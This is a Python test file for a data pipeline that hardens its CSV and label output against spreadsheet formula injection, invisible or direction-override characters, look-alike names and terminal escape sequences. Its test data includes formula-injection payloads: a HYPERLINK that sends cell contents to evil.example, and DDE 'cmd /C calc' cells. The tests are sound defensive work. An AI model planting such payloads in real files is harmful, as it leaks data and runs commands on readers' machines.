"""Issue 17: nothing a reader opens can mislead or run. Spreadsheet formulas in CSV cells are
neutralised (OWASP); direction, zero-width and control characters are removed with a warning
naming round and field; a name imitating a family with look-alike characters is flagged and
never labelled as that family; labels from the feed are cut to a readable length."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pandas as pd
import pytest

from analysis import storage, taxonomy
from analysis.errors import FeedError
from analysis.ingest import process, snapshots
from analysis.ingest.clean import clean_rounds
from analysis.publish import content
from helpers import FEEDS, with_round

GOOD = json.loads((FEEDS / "small_feed.json").read_text())
TODAY = date(2023, 9, 1)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cleaned(feed: dict):
    return clean_rounds(json.loads(json.dumps(feed))["rounds"], today=TODAY)


def findings(result, severity="warning") -> dict[tuple[str, str], str]:
    """Every message of ``severity`` per (round, field), joined."""
    q = result.quality[result.quality["severity"] == severity]
    found: dict[tuple[str, str], str] = {}
    for r, f, m in zip(q["round"], q["field"], q["message"], strict=True):
        found[(r, f)] = f"{found.get((r, f), '')} | {m}"
    return found


# ------------------------------------------------------------------ spreadsheet formulas


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised_with_a_quote(cell):
    text = storage.csv_text(pd.DataFrame({"name": [cell], "gap": [-3]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["'" + cell.replace("\r", "\n"), "-3"]


@pytest.mark.parametrize("cell", ["-12", "+3.5", "-0.25", "1e5", "-", "STEM", "2023-07-05"])
def test_numbers_and_plain_text_are_left_alone(cell):
    frame = pd.DataFrame({"value": pd.array([cell], dtype="string")})
    neutral = storage.neutralise_csv_cells(frame)
    assert neutral["value"][0] == (cell if cell != "-" else "'-")


def test_processed_csvs_carry_no_formula_but_parquet_keeps_the_name(tmp_path):
    raw, processed = tmp_path / "raw", tmp_path / "processed"
    feed = with_round(GOOD, "258", drawName=FORMULAS[0], drawText2=FORMULAS[1])
    snapshots.store_snapshot(
        json.dumps(feed).encode(), "fixture", raw, retrieved_at=datetime(2023, 9, 1, tzinfo=UTC)
    )
    run = process.clean_latest_snapshot(raw=raw, processed=processed)
    assert FORMULAS[0] in set(run.draws["name"])
    for name in ("draws", "revisions", "quality"):
        table = pd.read_csv(processed / f"{name}.csv", dtype="string", keep_default_na=False)
        for column in table.columns:
            assert not table[column].str.match(r"[=+@\t\r]").any(), (name, column)
    draws = pd.read_csv(processed / "draws.csv", dtype="string")
    assert "'" + FORMULAS[0] in set(draws["name"])


def test_published_downloads_use_the_same_rule():
    text = content.csv_text(pd.DataFrame({"Round type": [FORMULAS[1]], "Cutoff": [-1]}))
    assert text.splitlines()[1].startswith("'@SUM") and text.endswith(",-1\n")


# ------------------------------------------------------------------ invisible characters


@pytest.mark.parametrize(
    ("field", "text", "seen"),
    [
        ("drawName", "\u202eMETS occupations (Version 1)", "METS occupations (Version 1)"),
        ("drawName", "ST\u200dEM occupations (Version 1)", "STEM occupations (Version 1)"),
        ("drawName", "STEM\u2066 occupations\u2069 (Version 1)", "STEM occupations (Version 1)"),
        ("drawText2", "All\x00 programs\x07\x1b[31m", "All programs[31m"),
        ("drawText2", "\ufeffFederal\u200b Skilled\x85 Worker", "Federal Skilled Worker"),
    ],
)
def test_direction_and_invisible_characters_are_removed_with_a_warning(field, text, seen):
    result = cleaned(with_round(GOOD, "258", **{field: text}))
    assert "contains invisible, direction or control characters" in findings(result)[("258", field)]
    row = result.draws.set_index("round").loc["258"]
    assert row["name" if field == "drawName" else "programs"] == seen
    logged = result.quality.loc[result.quality["field"] == field, "value"].iloc[0]
    assert logged.isprintable()  # the log shows them as escapes, on pages, in CSVs, on terminals


def test_an_override_never_makes_a_name_read_as_stem():
    result = cleaned(with_round(GOOD, "258", drawName="\u202eMETS occupations (Version 1)"))
    row = result.draws.set_index("round").loc["258"]
    assert row["family"] != "stem" and "\u202e" not in row["label"]


def test_escape_sequences_in_a_round_number_never_reach_the_terminal():
    broken = with_round(GOOD, "258", drawNumber="\x1b[2J\x1b[31m258", drawDate=None)
    with pytest.raises(FeedError) as refused:
        cleaned(broken)
    assert "\x1b" not in str(refused.value)


# ------------------------------------------------------------------ look-alike names


@pytest.mark.parametrize(
    "name",
    ["ST\u0395M occupations (Version 1)", "\u017fTEM occupations", "\u0405TEM occupations"],
    ids=["Greek Epsilon", "long s", "Cyrillic Dze"],
)
def test_a_name_imitating_a_family_is_flagged_and_never_labelled_as_it(name):
    category = taxonomy.classify(name)
    assert category.family == taxonomy.UNCLASSIFIED and category.looks_like == "stem"
    assert "[U+" in category.label and category.label != "STEM"
    result = cleaned(with_round(GOOD, "258", drawName=name))
    assert "looks like a stem round's name" in findings(result)[("258", "drawName")]
    labels = taxonomy.reader_labels(result.draws)
    assert labels[result.draws["round"] == "258"].iloc[0].startswith(category.label[:3])


def test_names_in_other_scripts_that_imitate_nothing_stay_as_written():
    category = taxonomy.classify("Professions de santé")
    assert category.looks_like is None and category.label == "Professions de santé"


# ------------------------------------------------------------------ bounded labels


def test_a_100_kb_name_gives_a_readable_label():
    name = "Occupations " + "x" * 100_000
    result = cleaned(with_round(GOOD, "258", drawName=name))
    row = result.draws.set_index("round").loc["258"]
    assert row["name"] == name  # nothing lost
    assert len(row["label"]) == taxonomy.LABEL_LIMIT and row["label"].endswith("…")
    assert taxonomy.reader_labels(result.draws).str.len().max() <= taxonomy.LABEL_LIMIT
    assert len(taxonomy.family_labels(result.draws)[taxonomy.UNCLASSIFIED]) <= taxonomy.LABEL_LIMIT


def test_escape_sequences_in_the_newest_round_never_reach_the_fetch_message(tmp_path, feed_file):
    from helpers import run_ee

    feed = with_round(GOOD, "260", drawNumber="\x1b[2J\x1b[31m260")
    env = {"EE_DATA_DIR": str(tmp_path / "data"), "EE_REPORTS_DIR": str(tmp_path / "reports")}
    fetched = run_ee("fetch", "--no-notebook", "--source", str(feed_file(feed)), env=env)
    assert fetched.returncode == 0, fetched.stderr
    assert "\x1b" not in fetched.stdout + fetched.stderr
    assert "newest \\x1b[2J\\x1b[31m260 on 2023-08-15" in fetched.stdout
